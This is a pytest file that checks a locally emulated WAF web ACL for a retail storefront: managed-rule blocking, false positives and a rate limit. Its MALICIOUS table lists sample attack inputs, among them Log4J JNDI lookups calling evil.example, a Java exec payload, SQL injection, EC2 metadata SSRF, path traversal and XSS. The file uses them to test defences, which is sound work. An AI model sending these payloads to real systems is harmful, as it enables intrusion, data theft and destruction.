"""The web ACL as it is deployed: samples of the managed rules, and the rate limit."""

from __future__ import annotations

import http.client
from typing import Any

import pytest

from retail.local.edge.rates import Rate
from tests.edge.origin import Origin
from tests.edge.world import World

MALICIOUS: dict[str, dict[str, Any]] = {
    "IpReputation/AWSManagedIPReputationList": {"address": "127.66.0.1"},
    "AnonymousIp/AnonymousIPList": {"address": "127.67.0.1"},
    "KnownBadInputs/Log4JRCE_HEADER": {"headers": {"X-Api-Version": "${jndi:ldap://evil.example/a}"}},
    "KnownBadInputs/Log4JRCE_QUERYSTRING": {"path": "/api/products?q=%24%7Bjndi:ldap://evil.example/a%7D"},
    "KnownBadInputs/JavaDeserializationRCE_BODY": {
        "method": "POST",
        "body": b'(java.lang.Runtime).getRuntime().exec("id")',
    },
    "KnownBadInputs/ExploitablePaths_URIPATH": {"path": "/WEB-INF/web.xml"},
    "SqlInjection/SQLi_QUERYARGUMENTS": {"path": "/api/products?q=mug%27+OR+1=1"},
    "SqlInjection/SQLi_BODY": {"method": "POST", "body": b"q=1+UNION+SELECT+password+FROM+users"},
    "SqlInjection/SQLi_COOKIE": {"headers": {"Cookie": "session=x'; DROP TABLE orders"}},
    "Common/NoUserAgent_HEADER": {"headers": {"User-Agent": ""}},
    "Common/UserAgent_BadBots_HEADER": {"headers": {"User-Agent": "Nikto/2.5"}},
    "Common/SizeRestrictions_QUERYSTRING": {"path": "/?q=" + "x" * 2_100},
    "Common/EC2MetaDataSSRF_QUERYARGUMENTS": {"path": "/?u=//169.254.169.254/latest/meta-data"},
    "Common/GenericLFI_QUERYARGUMENTS": {"path": "/?file=../../secret"},
    "Common/GenericLFI_URIPATH": {"path": "/static/..%2f..%2fsecret"},
    "Common/RestrictedExtensions_URIPATH": {"path": "/app.log"},
    "Common/GenericRFI_QUERYARGUMENTS": {"path": "/?next=http://192.0.2.1/x"},
    "Common/CrossSiteScripting_QUERYARGUMENTS": {"path": "/?q=%3Cscript%3Ealert(1)%3C/script%3E"},
    "Common/CrossSiteScripting_BODY": {"method": "POST", "body": b"review=<script>alert(1)</script>"},
}

HONEST: dict[str, dict[str, Any]] = {
    "an apostrophe": {"path": "/?q=O%27Reilly+or+Orwell"},
    "words of SQL": {"path": "/?q=select+a+union+jack+from+stock"},
    "an order": {
        "method": "POST",
        "body": b'{"items": [{"sku": "MUG-1"}], "note": "drop by; the table"}',
    },
    "a way up that leads nowhere": {"path": "/?q=well...+maybe"},
    "a link with a name": {"path": "/?next=https://store.example.com/account"},
}


@pytest.mark.parametrize("rule", MALICIOUS)
def test_a_sample_of_each_kind_of_attack_is_blocked_and_never_reaches_the_storefront(
    world: World, storefront: Origin, rule: str
) -> None:
    answer = world.ask(**{"path": "/", **MALICIOUS[rule]})
    assert (answer.status, answer.headers.get("x-local-blocked-by")) == (403, f"{rule}; a sample pattern")
    assert storefront.heard == []


@pytest.mark.parametrize("name", HONEST)
def test_what_only_looks_alike_passes(world: World, storefront: Origin, name: str) -> None:
    assert world.ask(**{"path": "/", **HONEST[name]}).status == 200


@pytest.mark.parametrize(
    ("rule", "request_"),
    [
        ("AnonymousIp/HostingProviderIPList", {"address": "127.68.0.1"}),
        ("Common/SizeRestrictions_BODY", {"method": "POST", "body": b"x" * 9_000}),
    ],
)
def test_the_two_rules_that_would_hit_customers_only_count(
    world: World, storefront: Origin, rule: str, request_: dict[str, Any]
) -> None:
    assert world.ask("/api/upload", **request_).status == 200
    assert world.feed("/requests")["requests"][-1]["counted_by"] == [rule]


def test_an_address_that_sends_more_than_2000_requests_is_blocked_and_no_other(
    world: World, storefront: Origin
) -> None:
    greedy = http.client.HTTPConnection("127.0.0.1", world.port, source_address=("127.0.0.9", 0))

    def status() -> tuple[int, str | None]:
        greedy.request("GET", "/static/rate.js", headers={"User-Agent": "tests"})
        response = greedy.getresponse()
        response.read()
        return response.status, response.getheader("x-local-blocked-by")

    assert {status() for _ in range(2_000)} == {(200, None)}
    assert status() == (403, "RateLimit")
    greedy.close()
    assert world.ask("/static/rate.js", address="127.0.0.10").status == 200


def test_requests_count_for_five_minutes() -> None:
    rate = Rate(300)
    for second in range(300):
        rate.counted("192.0.2.1", second)
    assert rate.counted("192.0.2.1", 299) == 301
    assert rate.counted("192.0.2.1", 300) == 301
    assert rate.counted("192.0.2.1", 400) == 202
    assert rate.counted("192.0.2.1", 10_000) == 1
    assert rate.counted("192.0.2.2", 10_000) == 1
